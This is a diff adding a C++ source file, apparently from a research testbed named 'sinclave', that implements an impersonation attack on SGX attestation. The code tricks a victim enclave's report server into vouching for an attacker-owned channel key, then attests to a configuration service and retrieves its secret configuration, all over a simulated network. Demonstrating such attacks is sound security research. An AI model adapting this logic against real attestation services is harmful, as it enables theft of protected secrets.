@@ -1,0 +1,78 @@
+#include "attack/impersonator.h"
+
+#include "attack/report_server.h"
+#include "common/serial.h"
+#include "net/secure_channel.h"
+
+namespace sinclave::attack {
+
+TeeImpersonator::TeeImpersonator(net::SimNetwork* net,
+                                 quote::QuotingEnclave* qe,
+                                 std::string report_server_address,
+                                 crypto::Drbg rng)
+    : net_(net), qe_(qe),
+      report_server_address_(std::move(report_server_address)),
+      rng_(std::move(rng)) {
+  if (!net_ || !qe_) throw Error("impersonator: network and QE required");
+}
+
+ImpersonationAttempt TeeImpersonator::steal_config(
+    const std::string& cas_address, const crypto::RsaPublicKey& cas_identity,
+    const std::string& session_name,
+    const std::optional<core::AttestationToken>& token) {
+  ImpersonationAttempt attempt;
+
+  // 1. Own channel key; the binding the verifier will check.
+  net::SecureClient client(crypto::Drbg(rng_.generate(16), "impersonator"));
+  const sgx::ReportData binding = net::channel_binding(client.dh_public());
+
+  // 2. Have the victim enclave vouch for *our* channel key.
+  sgx::Report report;
+  try {
+    report = request_report(*net_, report_server_address_, qe_->target_info(),
+                            binding);
+  } catch (const Error&) {
+    attempt.failure = "report-server-unreachable";
+    return attempt;
+  }
+
+  // 3. Standard platform quoting — available to any local software.
+  const auto q = qe_->generate_quote(report);
+  if (!q.has_value()) {
+    attempt.failure = "quoting-failed";
+    return attempt;
+  }
+
+  // 4. Attest exactly like a genuine enclave runtime would.
+  cas::AttestPayload payload;
+  payload.session_name = session_name;
+  payload.quote = *q;
+  payload.token = token;
+
+  std::optional<Bytes> accepted;
+  try {
+    accepted = client.connect(net_->connect(cas_address), cas_identity,
+                              payload.serialize());
+  } catch (const Error&) {
+    attempt.failure = "connect-failed";
+    return attempt;
+  }
+  if (!accepted.has_value()) {
+    attempt.failure = "handshake-rejected";
+    return attempt;
+  }
+
+  // 5. Collect the spoils.
+  ByteWriter cmd;
+  cmd.u8(static_cast<std::uint8_t>(cas::Command::kGetConfig));
+  const cas::ConfigResponse cfg =
+      cas::ConfigResponse::deserialize(client.call(cmd.data()));
+  if (!cfg.ok) {
+    attempt.failure = "config-denied";
+    return attempt;
+  }
+  attempt.stolen_config = cfg.config;
+  return attempt;
+}
+
+}  // namespace sinclave::attack
